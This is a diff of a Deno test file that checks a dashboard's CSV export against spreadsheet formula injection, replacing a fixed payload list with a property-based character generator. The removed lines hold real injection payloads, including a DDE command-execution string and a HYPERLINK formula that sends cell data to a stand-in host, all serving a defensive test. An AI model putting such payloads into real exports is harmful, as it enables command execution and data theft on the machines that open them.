@@ -130,6 +130,7 @@ Deno.test("a month's figures by week and source, cut at its edges, stay when its
     "Día 1 0 0 0 0",
     "23 al 28 1 11 0 0 página 1 11 0 0",
   );
+  assertSays(await board.get("/mes?mes=2026-08"), "24 al 30 0 0 0 0 Día 31 0 0 0 0");
 });
 
 Deno.test("the form offers the current month", async () => {
@@ -294,51 +295,24 @@ Deno.test("the page says how long data is kept, and telephones are in no address
 const MERIDA = "America/Merida";
 const FORMULA_STARTS = /^[\s\p{Cf}"]*[=+\-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋−]/u;
 
-/** Guests' words that spreadsheets have been harmed with. */
-const HOSTILE = [
-  "=1+1",
-  '=HYPERLINK("http://x.test/?"&A1,"clic")',
-  "=cmd|' /C calc'!A0",
-  "+52 999",
-  "-2+3",
-  "@SUM(A1)",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  " =1+1",
-  "\u200b=1+1",
-  "＝1+1",
-  "＋1",
-  "－1",
-  "＠SUM(A1)",
-  "﹦1",
-  '"=1+1',
-  '",=1+1,"',
-  "hola;=1+1",
-  "hola\t=1+1",
-  "hola\n=1+1",
-  'hola;"=1+1"',
-];
+/** What guests' words are drawn from that spreadsheets have been harmed with, between other characters. */
+const HOSTILE = fc.constantFrom(..."=+-@＝＋－＠﹦;|,\"'\t\r\n \u200ba1ñ👩");
 
-Deno.test("no cell is a formula, whichever separator the spreadsheet believes in", () => {
-  for (const text of HOSTILE) {
-    const line = csvLine(["R-7K3M9QAB", text, 4]);
-    const [cells] = parse(line) as string[][];
-    assertEquals(cells?.length, 3, line);
-    assert(!FORMULA_STARTS.test(cells![1]!), line);
-    for (const cut of line.split(/[;\t\r\n|]/).slice(1)) assert(!FORMULA_STARTS.test(cut), line);
-  }
-});
-
-Deno.test("any text comes back as it was, but for the apostrophes that take the sting out of it", () => {
-  const text = fc.string({ unit: fc.constantFrom(..."=+-@＝;,\"'\t\n a1ñ👩") });
-  fc.assert(fc.property(fc.array(text, { minLength: 2, maxLength: 5 }), (texts) => {
-    const rows = parse(csvLine(texts)) as string[][];
-    assertEquals(rows.length, 1);
-    const bare = (cells: readonly string[]) => cells.map((cell) => cell.replaceAll("'", ""));
-    assertEquals(bare(rows[0]!), bare(texts));
-    assert(rows[0]!.every((cell) => !FORMULA_STARTS.test(cell) && !/^[\t\r\n]/.test(cell)));
-  }));
+Deno.test("any text comes back as it was, but for apostrophes, and is no formula, whichever separator the spreadsheet believes in", () => {
+  const texts = fc.array(fc.string({ unit: HOSTILE }), { minLength: 2, maxLength: 5 });
+  fc.assert(
+    fc.property(texts, (texts) => {
+      const line = csvLine(texts);
+      const [cells, ...more] = parse(line) as string[][];
+      // The reader loses a CR before an LF.
+      const bare = (cells: readonly string[]) => cells.map((cell) => cell.replace(/['\r]/g, ""));
+      assertEquals([bare(cells!), more], [bare(texts), []]);
+      const cuts = line.split(/[;\t\r\n|]/).slice(1);
+      for (const cell of [...cells!, ...cuts]) assert(!FORMULA_STARTS.test(cell), cell);
+      assert(cells!.every((cell) => !/^[\t\r\n]/.test(cell)));
+    }),
+    { numRuns: 300 },
+  );
 });
 
 Deno.test("what a spreadsheet opens has Spanish columns, and a phone it cannot take for a number", () => {
